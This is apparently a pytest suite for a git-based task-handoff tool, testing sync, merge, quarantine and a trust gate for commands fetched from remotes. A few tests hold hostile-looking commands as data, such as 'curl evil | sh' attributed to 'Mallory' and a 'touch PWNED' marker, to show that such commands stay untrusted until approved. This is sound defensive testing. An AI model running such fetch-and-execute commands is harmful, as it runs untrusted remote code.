# ruff: noqa: F811  (pytest fixtures imported from tests.sync_helpers)
"""sync against a bare remote on disk and against a real `git daemon` (git://)."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from git_handoff.ops.sync import SyncReport
from git_handoff.ops.sync_plan import Seen, plan
from git_handoff.remote.push_outcome import ACCEPTED, LOCKED, MOVED, REFUSED, Pushed
from tests.support.remotes import (  # noqa: F401
    clones,
    ok,
    published,
    remote_state,
    remote_url,
    shared_pair,
    task,
    tree,
)
from tests.support.repo import git, make_repo, run, run_exe, state_head


def test_fresh_clone_adopts_state_and_first_push(clones: Callable[[str], Path]) -> None:
    a = clones("a")
    ok("init", cwd=a)
    for n in range(3):
        ok("add", f"task {n}", "--id", f"t{n}", "--check", "true", cwd=a)
    first: SyncReport = ok("sync", "--json", cwd=a)
    assert first["action"] == "pushed" and published(a) in first["pushed"]
    assert remote_state(a) == state_head(a)
    assert "refs/harness/state" not in git("ls-remote", "origin", cwd=a)  # no ref that every clone moves
    b = clones("b")
    assert state_head(b) is None
    exe = run_exe("sync", "--json", cwd=b)  # the real executable, as a user runs it
    assert exe.rc == 0, exe.err
    got = exe.json()
    assert got["action"] == "adopted" and got["incoming"] >= 4
    assert state_head(b) == state_head(a)
    assert [t["id"] for t in json.loads(run("list", "--json", cwd=b).out)] == ["t0", "t1", "t2"]
    # a plain `git fetch` now brings the state too, into a namespace nothing reads
    # unchecked (the next sync checks it): never into the remote-tracking refs
    configured = git("config", "--get-all", "remote.origin.fetch", cwd=b)
    assert "+refs/harness/clones/*:refs/handoff-fetched/origin/harness/clones/*" in configured
    assert "refs/remotes/origin/harness" not in configured
    again: SyncReport = ok("sync", "--json", cwd=b)
    assert again["action"] == "up-to-date" and again["pushed"] == []
    assert ok("sync", cwd=b) == "sync origin: up to date; 0 commit(s) in, 0 out\n"


def test_offline_divergence_converges(clones: Callable[[str], Path]) -> None:
    a = clones("a")
    ok("init", cwd=a)
    for n in range(4):
        ok("add", f"task {n}", "--id", f"t{n}", "--check", "true", cwd=a)
    ok("sync", cwd=a)
    b = clones("b")
    ok("sync", cwd=b)
    # offline: each completes a different task and edits a different field of t3
    ok("claim", "t0", cwd=a)
    ok("done", "t0", cwd=a)
    ok("trust", "--all", cwd=b)  # the checks came from a
    ok("claim", "t1", cwd=b)
    ok("done", "t1", cwd=b)
    ok("claim", "t2", cwd=b)
    (b / "scratch.txt").write_text("attempt\n")
    ok("fail", "t2", "--reason", "broke", cwd=b)
    ok("edit", "t3", "--title", "renamed on a", cwd=a)
    ok("edit", "t3", "--priority", "P0", cwd=b)
    ok("add", "only on a", "--id", "a1", cwd=a)
    ok("add", "only on b", "--id", "b1", cwd=b)
    ok("sync", cwd=a)
    merged: SyncReport = ok("sync", "--json", cwd=b)
    assert merged["action"] == "merged"
    ok("sync", cwd=a)
    assert tree(a) == tree(b)
    assert state_head(a) == state_head(b)
    for where in (a, b):
        assert task(where, "t0")["status"] == "completed"
        assert task(where, "t1")["status"] == "completed"
        assert task(where, "t2")["status"] == "failed" and task(where, "t2")["attempts"] == 1
        t3 = task(where, "t3")
        assert (t3["title"], t3["priority"]) == ("renamed on a", "P0")
        assert {"a1", "b1"} <= {t["id"] for t in json.loads(run("list", "--json", cwd=where).out)}
    # the failed attempt travelled with the state
    assert git("rev-parse", "refs/harness/attempts/t2/1", cwd=a) \
        == git("rev-parse", "refs/harness/attempts/t2/1", cwd=b)
    # the merge commit has both parents and says what it did in SYNC lines
    head = state_head(b)
    assert head is not None
    assert len(git("rev-list", "--parents", "-n1", head, cwd=b).split()) == 3
    assert "SYNC merged origin" in git("log", "-1", "--format=%B", head, cwd=b)
    # every log line of both sides survives in the history
    log = run("log", cwd=a).out
    assert "only on a" in log and "only on b" in log


def test_same_field_conflict_is_reported(clones: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch) -> None:
    # the task is made before both edits (a hybrid clock orders concurrent writes by wall
    # clock only when the clocks are past the record's own stamp)
    monkeypatch.setenv("GIT_HANDOFF_NOW", "2026-07-01T10:00:00Z")
    a, b = shared_pair(clones, ("add", "x", "--id", "t"))
    monkeypatch.setenv("GIT_HANDOFF_NOW", "2026-07-01T11:00:00Z")
    ok("edit", "t", "--title", "early", cwd=a)
    monkeypatch.setenv("GIT_HANDOFF_NOW", "2026-07-01T12:00:00Z")
    ok("edit", "t", "--title", "late", cwd=b)
    ok("sync", cwd=b)
    r: SyncReport = ok("sync", "--json", cwd=a)
    assert [(c["record"], c["field"], c["kept"]) for c in r["conflicts"]] == [("t", "title", "late")]
    assert task(a, "t")["title"] == "late"
    assert "SYNC [t] conflict title" in git("log", "-1", "--format=%B", "refs/harness/state", cwd=a)


def test_local_transaction_never_lost(clones: Callable[[str], Path]) -> None:
    a, b = shared_pair(clones)
    ok("add", "local only", "--id", "mine", cwd=a)  # never pushed yet
    ok("add", "theirs", "--id", "theirs", cwd=b)
    ok("sync", cwd=b)  # someone else pushes first
    # a plain fetch does not touch the local state ref
    before = state_head(a)
    git("fetch", "-q", "origin", cwd=a)
    assert state_head(a) == before
    ok("sync", cwd=a)
    ok("sync", cwd=b)
    for where in (a, b):
        ids = {t["id"] for t in json.loads(run("list", "--json", cwd=where).out)}
        assert {"mine", "theirs"} <= ids


def test_notes_travel(clones: Callable[[str], Path]) -> None:
    a, b = shared_pair(clones)
    commit = git("rev-parse", "HEAD", cwd=a)
    git("notes", "--ref=harness", "add", "-m", "task: t1 session: 1", commit, cwd=a)
    (b / "f").write_text("x")
    git("add", "f", cwd=b)
    git("commit", "-qm", "work on b", cwd=b)
    other = git("rev-parse", "HEAD", cwd=b)
    git("notes", "--ref=harness", "add", "-m", "task: t2 session: 2", other, cwd=b)
    git("notes", "--ref=harness", "add", "-m", "seen on b", commit, cwd=b)
    ok("sync", cwd=a)
    r: SyncReport = ok("sync", "--json", cwd=b)
    assert r["notes"] == "merged"
    ok("sync", cwd=a)
    assert "task: t1 session: 1" in git("notes", "--ref=harness", "show", commit, cwd=b)
    assert "seen on b" in git("notes", "--ref=harness", "show", commit, cwd=a)
    git("fetch", "-q", "origin", "main", cwd=a)
    assert "task: t2 session: 2" in git("notes", "--ref=harness", "show", other, cwd=a)
    assert "task: t1" in git("log", "--notes=harness", "-1", commit, cwd=b)


def test_attempt_refs_travel(clones: Callable[[str], Path]) -> None:
    a = clones("a")
    ok("init", cwd=a)
    ok("sync", cwd=a)
    b = clones("b")
    head = git("rev-parse", "HEAD", cwd=a)
    git("update-ref", "refs/harness/attempts/t1/1", head, cwd=a)
    r: SyncReport = ok("sync", "--json", cwd=a)
    assert r["attempts"]["pushed"] == ["refs/harness/attempts/t1/1"]
    r = ok("sync", "--json", cwd=b)
    assert r["attempts"]["fetched"] == ["refs/harness/attempts/t1/1"]
    assert git("rev-parse", "refs/harness/attempts/t1/1", cwd=b) == head


def test_hostile_remote_command_needs_trust(clones: Callable[[str], Path]) -> None:
    a, b = shared_pair(clones, ("add", "x", "--id", "t", "--check", "true"))
    listed = json.loads(run("trust", "--json", cwd=b).out)
    assert [(i["id"], i["kind"], i["command"]) for i in listed] == [("t", "validation", "true")]
    ok("trust", "--all", cwd=b)
    assert json.loads(run("trust", "--json", cwd=b).out) == []
    marker = b / "PWNED"
    ok("edit", "t", "--check", f"touch {marker}", cwd=a)
    ok("sync", cwd=a)
    ok("sync", cwd=b)
    from git_handoff.infra.gitrepo import Repo
    from git_handoff.state import trust

    with pytest.raises(Exception, match="git handoff trust"):
        trust.require_trusted(Repo.discover(b), f"touch {marker}", "validation command", "t:validation")
    items = json.loads(run("trust", "--json", cwd=b).out)
    assert [(i["id"], i["command"]) for i in items] == [("t", f"touch {marker}")]
    assert items[0]["introduced_by"] == "Test Author" and items[0]["introduced_at"]
    assert "introduced by" in run("trust", cwd=b).out
    assert not marker.exists()
    ok("trust", "t", cwd=b)
    assert trust.is_trusted(Repo.discover(b), f"touch {marker}", "t:validation")


# -- bad input: one line, documented exit code, nothing changed --------------------------


def test_bad_inputs(clones: Callable[[str], Path], tmp_path: Path) -> None:
    a = clones("a")
    ok("init", cwd=a)
    before = state_head(a)
    cases = [
        (("sync", "nosuchremote"), 2, "unknown remote"),
        (("sync", str(tmp_path / "missing.git")), 2, "cannot fetch"),
        (("trust", "nosuchtask"), 2, "no task"),
    ]
    for args, code, text in cases:
        r = run(*args, cwd=a)
        assert r.rc == code, (args, r)
        assert r.err.count("\n") == 1 and text in r.err and r.out == ""
        assert state_head(a) == before
    git("remote", "remove", "origin", cwd=a)
    r = run("sync", cwd=a)
    assert r.rc == 2 and "no remote 'origin'" in r.err
    outside = tmp_path / "plain"
    outside.mkdir()
    r = run("sync", cwd=outside)
    assert r.rc == 2 and "not a git repository" in r.err
    fresh = make_repo(tmp_path / "fresh")
    empty = tmp_path / "empty.git"
    git("init", "-q", "--bare", str(empty), cwd=tmp_path)
    r = run("sync", str(empty), cwd=fresh)
    assert r.rc == 2 and "not initialized" in r.err.lower() or "nothing to sync" in r.err
    assert state_head(fresh) is None


def test_two_independent_inits_merge(clones: Callable[[str], Path]) -> None:
    a = clones("a")
    b = clones("b")
    ok("init", cwd=a)
    ok("add", "from a", "--id", "ta", cwd=a)
    ok("init", "--mode", "concurrent", cwd=b)
    ok("add", "from b", "--id", "tb", cwd=b)
    ok("sync", cwd=a)
    r: SyncReport = ok("sync", "--json", cwd=b)
    assert r["action"] == "merged"
    ok("sync", cwd=a)
    assert tree(a) == tree(b)
    ids = {t["id"] for t in json.loads(run("list", "--json", cwd=a).out)}
    assert ids == {"ta", "tb"}
    # both set `mode` with no common base and no time to order them: a stable rule, the same everywhere
    modes = {json.loads(run("status", "--json", cwd=w).out)["config"]["mode"] for w in (a, b)}
    assert len(modes) == 1


def test_transaction_during_sync_is_kept(clones: Callable[[str], Path]) -> None:
    """A local transaction landing right after the fetch, before the merge, is kept."""
    from git_handoff.infra.gitrepo import Repo
    from git_handoff.ops import sync as sync_ops
    from git_handoff.ops import tasks as task_ops
    from git_handoff.remote.layout import Remote
    from git_handoff.state.quarantine import Held
    from git_handoff.state.store import StateStore

    a, b = shared_pair(clones)
    ok("add", "remote side", "--id", "r1", cwd=a)
    ok("sync", cwd=a)
    store = StateStore(Repo.discover(b))
    real_fetch = sync_ops.fetch

    def fetch_then_local_write(repo: Repo, remote: Remote, *, everything: bool = True) -> list[Held]:
        held = real_fetch(repo, remote, everything=everything)
        task_ops.add(StateStore(Repo.discover(b)), title="raced in", task_id="l1")
        return held

    sync_ops.fetch = fetch_then_local_write
    try:
        sync_ops.sync(store, "origin")
    finally:
        sync_ops.fetch = real_fetch
    ok("sync", cwd=a)
    for where in (a, b):
        assert {"r1", "l1"} <= {t["id"] for t in json.loads(run("list", "--json", cwd=where).out)}


def test_init_remote_adds_refspecs(clones: Callable[[str], Path]) -> None:
    a = clones("a")
    r = run("init", "--remote", "nowhere", cwd=a)
    assert r.rc == 2 and "unknown remote" in r.err and state_head(a) is None
    git("remote", "rename", "origin", "shared", cwd=a)
    ok("init", "--remote", "shared", cwd=a)
    assert git("config", "handoff.remote", cwd=a) == "shared"
    assert "+refs/harness/clones/*:refs/handoff-fetched/shared/harness/clones/*" in git(
        "config", "--get-all", "remote.shared.fetch", cwd=a)
    ok("sync", cwd=a)  # handoff.remote is the default
    git("fetch", "-q", "shared", cwd=a)
    assert git("rev-parse", "refs/remotes/shared/" + published(a)[len("refs/"):], cwd=a) == state_head(a)


def test_remote_refusing_is_contention(tmp_path: Path) -> None:
    remote = tmp_path / "remote.git"
    git("init", "-q", "--bare", str(remote), cwd=tmp_path)
    hook = remote / "hooks" / "pre-receive"
    hook.write_text("#!/bin/sh\necho 'no state here' >&2\nexit 1\n")
    hook.chmod(0o755)
    a = make_repo(tmp_path / "a")
    git("remote", "add", "origin", str(remote), cwd=a)
    ok("init", cwd=a)
    before = state_head(a)
    r = run("sync", cwd=a)
    assert r.rc == 3 and "refused" in r.err and r.err.count("\n") == 1
    assert state_head(a) == before
    assert git("ls-remote", str(remote), cwd=a) == ""


def test_unreadable_remote_state_is_quarantined(clones: Callable[[str], Path]) -> None:
    """A remote whose state ref holds a broken task file: sync keeps that ref out (named,
    and shown by status), nothing of it is used, every other ref still is."""
    import os
    import subprocess

    a, b = shared_pair(clones, ("add", "x", "--id", "t"))
    names = git("ls-tree", "-r", "--name-only", "refs/harness/state", cwd=a).splitlines()
    tpath = next(p for p in names if p.endswith("/t.json"))
    bad_blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], input="{not json", cwd=a,
                              capture_output=True, text=True, check=True).stdout.strip()
    env = {**os.environ, "GIT_INDEX_FILE": str(a / ".git" / "tmpindex")}
    subprocess.run(["git", "read-tree", "refs/harness/state^{tree}"], cwd=a, check=True, env=env)
    subprocess.run(["git", "update-index", "--cacheinfo", f"100644,{bad_blob},{tpath}"], cwd=a, check=True, env=env)
    new_tree = subprocess.run(["git", "write-tree"], cwd=a, check=True, capture_output=True, text=True,
                              env=env).stdout.strip()
    commit = git("commit-tree", new_tree, "-p", str(state_head(a)), "-m", "broken", cwd=a)
    git("push", "-q", "origin", f"{commit}:refs/harness/state", cwd=a)
    before = state_head(b)
    r = run("sync", cwd=b)
    assert r.rc == 0 and r.err == "", r.err
    assert "quarantined 1 ref(s)" in r.out and "refs/harness/state" in r.out and "unreadable" in r.out
    assert state_head(b) == before
    assert git("for-each-ref", "refs/remotes/origin/harness/state", cwd=b) == ""
    assert task(b, "t")["title"] == "x"
    shown = run("status", cwd=b)
    assert shown.rc == 0 and "quarantined" in shown.out and "unreadable" in shown.out
    ok("add", "y", "--id", "u", cwd=a)  # a's own ref still comes in
    ok("sync", cwd=a)
    assert "quarantined 1 ref(s)" in ok("sync", cwd=b)
    assert task(b, "u")["title"] == "y"


def test_trust_lists_a_fetched_init_command(clones: Callable[[str], Path]) -> None:
    a = clones("a")
    ok("init", "--init-command", "echo ready", cwd=a)
    ok("add", "x", "--id", "t", "--check", "true", "--cleanup", "rm -rf build", cwd=a)
    assert json.loads(run("trust", "--json", cwd=a).out) == []  # created here: trusted at birth
    ok("sync", cwd=a)
    b = clones("b")
    ok("sync", cwd=b)
    items = {(i["id"], i["kind"], i["command"]) for i in json.loads(run("trust", "--json", cwd=b).out)}
    assert items == {("config", "init", "echo ready"), ("t", "validation", "true"), ("t", "cleanup", "rm -rf build")}
    r = run("trust", "config", "--json", cwd=b)
    assert [i["kind"] for i in r.json()] == ["init"]
    assert {i["id"] for i in json.loads(run("trust", "--json", cwd=b).out)} == {"t"}
    r = run("trust", "--all", cwd=b)
    assert r.rc == 0 and r.out.count("trusted t") == 2
    assert "every command in the state is trusted" in run("trust", cwd=b).out


def test_someone_pushing_meanwhile_rejects_nothing(clones: Callable[[str], Path]) -> None:
    """Someone pushes between our fetch and our push: each clone publishes to its own ref,
    so nothing is rejected; the next sync brings their change, and the clones converge."""
    from git_handoff.infra.gitrepo import Repo
    from git_handoff.ops import sync as sync_ops
    from git_handoff.remote.layout import Remote
    from git_handoff.state.quarantine import Held
    from git_handoff.state.store import StateStore

    a, b = shared_pair(clones)
    ok("add", "mine, local only", "--id", "mine", cwd=a)
    ok("add", "theirs", "--id", "theirs", cwd=b)
    real_fetch = sync_ops.fetch
    calls: list[int] = []

    def fetch_then_someone_pushes(repo: Repo, remote: Remote, *, everything: bool = True) -> list[Held]:
        held = real_fetch(repo, remote, everything=everything)
        if not calls:
            calls.append(1)
            assert run("sync", cwd=b).rc == 0
        return held

    sync_ops.fetch = fetch_then_someone_pushes
    try:
        report = sync_ops.sync(StateStore(Repo.discover(a)), "origin")
    finally:
        sync_ops.fetch = real_fetch
    assert report["retries"] == 0 and remote_state(a) == state_head(a)
    assert "theirs" not in {t["id"] for t in json.loads(run("list", "--json", cwd=a).out)}
    ok("sync", cwd=a)
    ok("sync", cwd=b)
    assert state_head(a) == state_head(b)
    for where in (a, b):
        assert {"mine", "theirs"} <= {t["id"] for t in json.loads(run("list", "--json", cwd=where).out)}


def test_a_ref_lock_on_the_server_is_waited_out(clones: Callable[[str], Path], tmp_path: Path) -> None:
    """The server cannot lock our ref (another push holds it: `[remote rejected] (failed
    to update ref)`): that is contention, retried with backoff, not a refusal. The server's
    own pre-receive hook takes the lock away on the second push, never a timer (a loaded
    machine's push outran a 0.2 s one and nothing was retried)."""
    a = clones("a")
    ok("init", cwd=a)
    ok("sync", cwd=a)
    ok("add", "x", "--id", "t", cwd=a)
    remote = tmp_path / "served" / "remote.git"  # what the fixture serves, on disk or by git daemon
    lock = remote / (published(a) + ".lock")
    lock.write_text("")
    seen = tmp_path / "push-seen"
    hook = remote / "hooks" / "pre-receive"  # runs before the server takes the ref locks
    hook.write_text(f"#!/bin/sh\ncat > /dev/null\n[ -e '{seen}' ] && rm -f '{lock}'\ntouch '{seen}'\n")
    hook.chmod(0o755)
    got: SyncReport = ok("sync", "--json", cwd=a)
    assert got["retries"] >= 1 and remote_state(a) == state_head(a)


def test_trust_names_who_introduced_a_command_through_a_merge(clones: Callable[[str], Path],
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    a, b = shared_pair(clones, ("add", "x", "--id", "t", "--check", "true"))
    monkeypatch.setenv("GIT_AUTHOR_NAME", "Mallory")
    ok("edit", "t", "--check", "curl evil | sh", cwd=a)
    ok("sync", cwd=a)
    monkeypatch.setenv("GIT_AUTHOR_NAME", "Bob")
    ok("add", "local work", "--id", "mine", cwd=b)  # so b's sync is a merge, authored by Bob
    assert ok("sync", "--json", cwd=b)["action"] == "merged"
    items = json.loads(run("trust", "--json", cwd=b).out)
    hostile = next(i for i in items if i["command"] == "curl evil | sh")
    assert hostile["introduced_by"] == "Mallory"
    assert "Edited" in hostile["log"]


def test_trust_groups_a_command_used_by_many_tasks(clones: Callable[[str], Path]) -> None:
    a = clones("a")
    ok("init", cwd=a)
    plan = "".join(f'[[task]]\nid = "t{n:03d}"\ntitle = "task {n}"\ncheck = "pytest -q"\n' for n in range(300))
    (a / "plan.toml").write_text(plan)
    ok("import", str(a / "plan.toml"), cwd=a)
    ok("sync", cwd=a)
    b = clones("b")
    ok("sync", cwd=b)
    items = json.loads(run("trust", "--json", cwd=b).out)
    assert len(items) == 1 and len(items[0]["uses"]) == 300 and items[0]["introduced_by"] == "Test Author"
    assert "and 299 more use(s)" in run("trust", cwd=b).out
    ok("trust", "t150", cwd=b)
    assert json.loads(run("trust", "--json", cwd=b).out) == []


def test_a_fetch_killed_midway_does_not_block_the_next(clones: Callable[[str], Path]) -> None:
    """A sync SIGKILLed while git fetch held a ref lock in the private incoming namespace
    left that lock, and every later sync failed ("cannot lock ref ...": seen in the
    torture test). Each fetch now has a namespace of its own; the next one sweeps the
    locks and refs of a namespace whose process is gone (or of the fixed namespace of
    earlier versions), and leaves a live fetch's alone."""
    import subprocess

    a = clones("a")
    ok("init", cwd=a)
    ok("sync", cwd=a)
    b = clones("b")
    ok("sync", cwd=b)
    ok("add", "more", "--id", "t9", cwd=a)
    ok("sync", cwd=a)
    incoming = b / ".git" / "refs" / "handoff-incoming" / "origin"
    clone_id = git("ls-remote", "origin", "refs/harness/clones/*", cwd=b).split()[1].split("/")[3]
    old_layout = incoming / "harness" / "clones" / clone_id / "state.lock"
    dead = incoming / "999999999-0badf00d" / "harness" / "clones" / clone_id / "state.lock"
    live_proc = subprocess.Popen(["sleep", "60"])
    try:
        live = incoming / f"{live_proc.pid}-0123abcd" / "harness" / "state.lock"
        for lock in (old_layout, dead, live):
            lock.parent.mkdir(parents=True, exist_ok=True)
            lock.write_text("")
        res = run("sync", cwd=b)
        assert res.rc == 0, res.err
        assert "t9" in run("list", cwd=b).out
        assert not old_layout.exists() and not dead.exists() and not dead.parent.exists()
        assert live.exists()  # another process's fetch, still running
    finally:
        live_proc.kill()
        live_proc.wait()
    ok("sync", cwd=b)
    assert not live.exists()
    namespaces = [p.name for p in incoming.iterdir()]
    assert len(namespaces) <= 1, namespaces  # at most the last fetch's empty directories


def test_sync_adds_only_the_refspecs_it_needs_and_says_so_once(repo: Path, tmp_path: Path) -> None:
    bare = tmp_path / "remote.git"
    git("init", "-q", "--bare", str(bare), cwd=tmp_path)
    git("remote", "add", "origin", str(bare), cwd=repo)
    # a legacy, broader refspec from an earlier version, and a user's own one
    git("config", "--add", "remote.origin.fetch", "+refs/notes/*:refs/remotes/origin/notes/*", cwd=repo)
    assert run("init").rc == 0
    first = run("sync")
    assert first.rc == 0, first.err
    # what a plain `git fetch` brings of the state goes where nothing reads it unchecked
    # (refs/handoff-fetched/: the next sync checks it)
    fetched = "refs/handoff-fetched/origin/harness"
    assert "added to remote.origin.fetch" in first.out
    assert f"+refs/notes/harness*:{fetched}/notes/harness*" in first.out
    assert ("removed from remote.origin.fetch (broader than needed): "
            "+refs/notes/*:refs/remotes/origin/notes/*") in first.out
    specs = git("config", "--get-all", "remote.origin.fetch", cwd=repo).splitlines()
    assert specs == ["+refs/heads/*:refs/remotes/origin/*",
                     f"+refs/harness/clones/*:{fetched}/clones/*",
                     f"+refs/harness/claims/*:{fetched}/claims/*",
                     f"+refs/harness/attempts/*:{fetched}/attempts/*",
                     f"+refs/harness/work/*:{fetched}/work/*",
                     f"+refs/harness/state*:{fetched}/state*",
                     f"+refs/notes/harness*:{fetched}/notes/harness*"]
    second = run("sync")
    assert second.rc == 0 and "remote.origin.fetch" not in second.out
    assert run("sync", "--json").json()["refspecs"] == {"added": [], "removed": []}
    # another notes namespace on the remote is not fetched, by sync or by a plain fetch
    git("notes", "--ref=review", "add", "-m", "someone else's", "HEAD", cwd=repo)
    git("push", "-q", str(bare), "refs/notes/review", cwd=repo)
    assert run("sync").rc == 0
    git("fetch", "-q", "origin", cwd=repo)
    assert "review" not in git("for-each-ref", "--format=%(refname)", "refs/remotes/", cwd=repo)


def test_a_fetch_starts_no_git_maintenance_and_the_packs_it_keeps_are_rolled_up(
        clones: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """git would start `git maintenance run --auto` after every fetch (a process a sync in
    a fleet); sync leaves it out and rolls the packs up itself once there are 50."""
    a, b = shared_pair(clones)
    pack_dir = b / ".git" / "objects" / "pack"
    for n in range(50):  # the packs of 50 fetches that each brought more than fetch.unpackLimit objects
        oid = git("hash-object", "-w", "--stdin", cwd=b, input_text=f"object {n}\n")
        git("pack-objects", "-q", str(pack_dir / "pack"), cwd=b, input_text=oid + "\n")
    assert len(list(pack_dir.glob("*.pack"))) >= 50
    ok("add", "one more", "--id", "more", "--check", "true", cwd=a)
    ok("sync", cwd=a)
    trace = tmp_path / "trace2"
    monkeypatch.setenv("GIT_TRACE2_EVENT", str(trace))
    assert ok("sync", "--json", cwd=b)["incoming"] >= 1
    monkeypatch.delenv("GIT_TRACE2_EVENT")
    events = [json.loads(line) for line in trace.read_text().splitlines()]
    fetches = {e["sid"] for e in events if e["event"] == "cmd_name" and e["name"] == "fetch"}
    assert fetches
    # what the fetches started (a local remote's receive-pack runs its own `gc --auto`: not ours)
    children = [e["argv"] for e in events if e["event"] == "child_start" and e["sid"] in fetches]
    assert children  # (index-pack, rev-list: the trace does see them)
    assert not [argv for argv in children if "maintenance" in argv or "gc" in argv]
    marker = b / ".git" / "handoff" / "gc.running"
    deadline = time.monotonic() + 120
    while marker.exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not marker.exists()
    assert len(list(pack_dir.glob("*.pack"))) < 10
    assert task(b, "more")["title"] == "one more"


# -- the plan of a round's publish (ops/sync_plan.py): pure, no repository ----------------

MY_STATE = "refs/harness/clones/me/state"
MY_NOTES = "refs/harness/clones/me/notes"


def _seen(**given: object) -> Seen:
    """A round where the remote already has this clone's state and notes, unless `given` says otherwise."""
    fields: dict[str, object] = {"local": "c1", "published": "c1", "notes": "n1", "notes_published": "n1",
                                 "my_state": MY_STATE, "my_notes": MY_NOTES}
    fields.update(given)
    return Seen(**fields)  # type: ignore[arg-type]  # the fields' own types, checked by Seen


def test_plan_of_a_round_with_nothing_new_pushes_nothing() -> None:
    seen = _seen(attempts=("refs/harness/attempts/t1/1",),
                 remote_attempts=frozenset({"refs/harness/attempts/t1/1"}))
    got = plan(seen)
    assert got.specs == () and dict(got.leases) == {} and not got.outgoing
    outcome = got.read(Pushed({}))
    assert outcome.done and outcome.refused is None
    assert outcome.track == ()
    assert outcome.forget == outcome.pushed == outcome.retired == ()
    assert outcome.attempts_pushed == outcome.attempts_stuck == ()


def test_plan_pushes_what_the_remote_lacks_in_order_with_a_lease_on_each_deletion_and_closing() -> None:
    seen = _seen(published="c0", notes_published=None, legacy=("c0", "n1"),
                 attempts=("refs/harness/attempts/t2/1", "refs/harness/attempts/t1/1", "refs/harness/attempts/t1/2"),
                 remote_attempts=frozenset({"refs/harness/attempts/t1/1"}),
                 prune={"refs/harness/claims/gone": "p1"},
                 retired={"refs/harness/clones/old/state": "r1", "refs/harness/clones/old/notes": "r2"},
                 close={"refs/harness/claims/done": "d1"})
    got = plan(seen)
    assert got.outgoing
    assert got.specs == (
        f"refs/harness/state:{MY_STATE}",
        f"refs/notes/harness:{MY_NOTES}",
        "refs/harness/state:refs/harness/state",  # the legacy state differs; its notes do not
        "refs/harness/attempts/t1/2:refs/harness/attempts/t1/2",
        "refs/harness/attempts/t2/1:refs/harness/attempts/t2/1",
        ":refs/harness/claims/gone",
        ":refs/harness/clones/old/state",
        ":refs/harness/clones/old/notes",
        "c1:refs/harness/claims/done",
    )
    assert dict(got.leases) == {"refs/harness/claims/gone": "p1", "refs/harness/clones/old/state": "r1",
                                "refs/harness/clones/old/notes": "r2", "refs/harness/claims/done": "d1"}


def test_plan_without_legacy_state_or_notes_leaves_those_refs_alone() -> None:
    got = plan(_seen(published=None, notes=None, notes_published="n0"))
    assert got.outgoing and got.specs == (f"refs/harness/state:{MY_STATE}",)
    outcome = got.read(Pushed({MY_STATE: (ACCEPTED, ""), MY_NOTES: (ACCEPTED, "")}))
    assert outcome.track == ((MY_STATE, "c1"),)  # no notes here: nothing to track them at
    assert outcome.done


def test_reading_an_accepted_push_sorts_each_ref_into_the_report() -> None:
    seen = _seen(published="c0", prune={"refs/harness/claims/gone": "p1"},
                 retired={"refs/harness/clones/old/state": "r1", "refs/harness/clones/old/notes": "r2"},
                 close={"refs/harness/claims/done": "d1"})
    refs = [MY_STATE, MY_NOTES, "refs/harness/attempts/t1/2", "refs/harness/claims/gone",
            "refs/harness/clones/old/state", "refs/harness/clones/old/notes", "refs/harness/claims/done"]
    outcome = plan(seen).read(Pushed({ref: (ACCEPTED, "") for ref in refs}))
    assert outcome.refused is None and outcome.done
    assert outcome.track == ((MY_STATE, "c1"), (MY_NOTES, "n1"), ("refs/harness/claims/done", "c1"))
    assert outcome.forget == ("refs/harness/claims/gone", "refs/harness/clones/old/notes",
                              "refs/harness/clones/old/state")
    assert outcome.pushed == ("refs/harness/attempts/t1/2", MY_NOTES, MY_STATE)  # sorted, as git's answer is not
    assert outcome.claims_pruned == ("gone",) and outcome.claims_closed == ("done",)
    assert outcome.retired == ("old",)  # its state and notes refs: one clone
    assert outcome.attempts_pushed == ("refs/harness/attempts/t1/2",) and outcome.attempts_stuck == ()


@pytest.mark.parametrize("what", [MOVED, LOCKED])
def test_reading_a_push_whose_state_did_not_land_is_another_round(what: str) -> None:
    seen = _seen(published="c0", prune={"refs/harness/claims/gone": "p1"})
    outcome = plan(seen).read(Pushed({MY_STATE: (what, "[rejected] (stale info)"),
                                      "refs/harness/claims/gone": (MOVED, "[rejected] (stale info)"),
                                      "refs/harness/attempts/t1/1": (MOVED, "[rejected] (already exists)")}))
    assert not outcome.done and outcome.refused is None
    assert outcome.track == ()
    assert outcome.forget == outcome.pushed == outcome.claims_pruned == ()
    assert outcome.attempts_stuck == ("refs/harness/attempts/t1/1",)  # differs there: both kept


def test_reading_a_refusal_names_only_this_clones_own_refs() -> None:
    """A rule refusing this clone's state, notes or an attempt is exit 3; one refusing the
    deletion of another clone's claim ref is not this clone's to fight (it stays, retried later)."""
    seen = _seen(published="c0", prune={"refs/harness/claims/gone": "p1"})
    claim_only = plan(seen).read(Pushed({MY_STATE: (ACCEPTED, ""),
                                         "refs/harness/claims/gone": (REFUSED, "[remote rejected] (hook declined)")}))
    assert claim_only.refused is None and claim_only.done
    state = plan(seen).read(Pushed({MY_STATE: (REFUSED, "[remote rejected] (hook declined)")},
                                   (f"FATAL: W {MY_STATE} me DENIED",)))
    assert state.refused is not None and state.refused.startswith(f"{MY_STATE}: [remote rejected] (hook declined)")
    assert "DENIED" in state.refused and not state.done
